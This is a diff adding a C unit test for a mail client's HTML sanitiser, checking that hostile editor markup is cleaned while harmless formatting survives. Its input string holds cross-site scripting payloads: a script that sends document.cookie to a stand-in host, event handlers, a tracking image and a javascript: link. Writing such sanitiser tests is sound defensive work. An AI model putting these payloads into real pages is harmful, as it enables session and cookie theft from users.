@@ -315,16 +315,65 @@ static void test_mutations(void **state)
 	}
 }
 
+/* The rich-text editor's HTML as a hostile page could post it: what is
+ * sent (and so what the recipient reads) is the sanitiser's output, and
+ * the text part is made from it. */
+static void test_compose_html(void **state)
+{
+	static const char hostile[] =
+	    "<p onclick=\"steal()\">Hello <b>world</b></p>"
+	    "<script>fetch('https://evil.test/?c='+document.cookie)</script>"
+	    "<img src=\"https://evil.test/track.png\" onerror=\"x()\">"
+	    "<a href=\"javascript:alert(1)\">click</a> "
+	    "<a href=\"https://qmail.test/doc\">doc</a>"
+	    "<ul><li>one</li></ul><blockquote>quoted</blockquote>";
+	struct qm_buf clean, text;
+	struct qm_error e;
+	char *lc;
+
+	(void)state;
+	qm_buf_init(&clean, 1 << 16);
+	qm_buf_init(&text, 1 << 16);
+	assert_int_equal(
+	    qm_web_compose_html(hostile, strlen(hostile), &clean, &text, &e),
+	    QM_OK);
+	lc = strdup((char *)clean.data);
+	assert_non_null(lc);
+	lower(lc);
+	assert_null(strstr(lc, "<script"));
+	assert_null(strstr(lc, "cookie"));
+	assert_null(strstr(lc, "onclick"));
+	assert_null(strstr(lc, "onerror"));
+	assert_null(strstr(lc, "evil.test"));
+	assert_null(strstr(lc, "javascript:"));
+	/* what the editor makes survives */
+	assert_non_null(strstr(lc, "<b>world</b>"));
+	assert_non_null(strstr(lc, "<li>one</li>"));
+	assert_non_null(strstr(lc, "<blockquote>"));
+	assert_non_null(strstr(lc, "href=\"https://qmail.test/doc\""));
+	free(lc);
+	assert_non_null(strstr((char *)text.data, "Hello world"));
+	assert_non_null(strstr((char *)text.data, "* one"));
+	assert_non_null(strstr((char *)text.data, "> quoted"));
+	assert_non_null(
+	    strstr((char *)text.data, "doc <https://qmail.test/doc>"));
+	assert_null(strstr((char *)text.data, "javascript"));
+	assert_null(strstr((char *)text.data, "cookie"));
+	qm_buf_free(&clean);
+	qm_buf_free(&text);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_keeps_harmless_markup),
-		cmocka_unit_test(test_closes_and_escapes),
-		cmocka_unit_test(test_images),
-		cmocka_unit_test(test_output_limit),
-		cmocka_unit_test(test_xss_corpus),
-		cmocka_unit_test(test_truncations),
-		cmocka_unit_test(test_mutations),
+	    cmocka_unit_test(test_keeps_harmless_markup),
+	    cmocka_unit_test(test_closes_and_escapes),
+	    cmocka_unit_test(test_images),
+	    cmocka_unit_test(test_output_limit),
+	    cmocka_unit_test(test_xss_corpus),
+	    cmocka_unit_test(test_truncations),
+	    cmocka_unit_test(test_mutations),
+	    cmocka_unit_test(test_compose_html),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
